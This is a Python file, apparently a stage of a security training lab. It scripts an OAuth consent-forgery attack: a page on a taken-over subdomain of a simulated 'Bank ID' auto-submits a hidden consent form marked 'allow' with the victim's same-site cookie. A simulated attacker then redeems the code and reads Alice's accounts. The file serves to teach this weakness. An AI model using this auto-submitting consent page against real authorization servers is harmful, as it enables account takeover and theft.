"""A forgotten page beside Bank ID presses “Allow” for Alice."""

from urllib.parse import parse_qsl, urlencode, urlsplit

from flask import Flask, Response, render_template_string, request

from labs.chromium import BrowserStage
from labs.stage import PUBLIC, Stage
from labs.steps import step

PAGE = """{% extends "pages/sale.html" %}
{% block form %}<form method="post" action="{{ action }}">
{% for name, value in fields %}<input type="hidden" name="{{ name }}" value="{{ value }}">
{% endfor %}</form>{% endblock %}
{% block script %}<script>document.forms[0].submit();</script>{% endblock %}"""
sale = Flask(__name__, template_folder="../../templates", static_folder="../../static")
HOSTS = {"shop.auth": sale}  # a subdomain of Bank ID's that somebody gave up, and somebody else took


@sale.get("/")
def sends_itself() -> Response:
    """Send the consent form of the request that stands in the URL, with “Allow” pressed."""
    # To a browser `shop.auth` and `auth` are one site, so the cookie goes along with a form from here.
    action = f"{request.environ['labs.world'].here.auth}/consent"
    page = Response(render_template_string(PAGE, action=action, fields=list(request.args.items())))
    page.headers["Content-Security-Policy"] = "default-src 'none'; style-src 'self'; script-src 'unsafe-inline'"
    return page


@step("Alice", by_hand="{auth}/")
def alice_signs_in(stage: BrowserStage) -> None:
    """Sign in at Bank ID as alice, to see which apps have access."""
    stage.alice.go(f"{stage.here.auth}/").sign_in()


@step("attacker")
def makes_a_link(stage: Stage) -> None:
    """Register an app, and make a link to a page with a consent form for it, all filled in."""
    redirect_uri = f"{stage.here.attacker}/collect"
    stage.kept["client_id"] = stage.attacker.register("Recipes", redirect_uri, **PUBLIC)["client_id"]
    parameters = dict(parse_qsl(urlsplit(stage.link(stage.kept["client_id"], redirect_uri)).query))
    # All fields of the real form can be guessed, but one: the token that Bank ID puts into its own pages.
    form = parameters | {"requested_scope": parameters["scope"], "decision": "allow"}
    stage.onward = f"{stage.here.origin('shop.auth')}/?{urlencode(form)}"


@step("Alice")
def alice_opens_the_page(stage: BrowserStage) -> None:
    """Open the link, and touch nothing."""
    stage.lead_alice().leads_to(stage.here.auth, stage.here.attacker)


@step("attacker")
def spends_the_code(stage: Stage) -> None:
    """Redeem the code that came, with the attacker's own verifier, and ask the bank."""
    token = stage.redeem_newest(stage.kept["client_id"], f"{stage.here.attacker}/collect")
    stage.attacker.bank("GET", "/accounts", token)
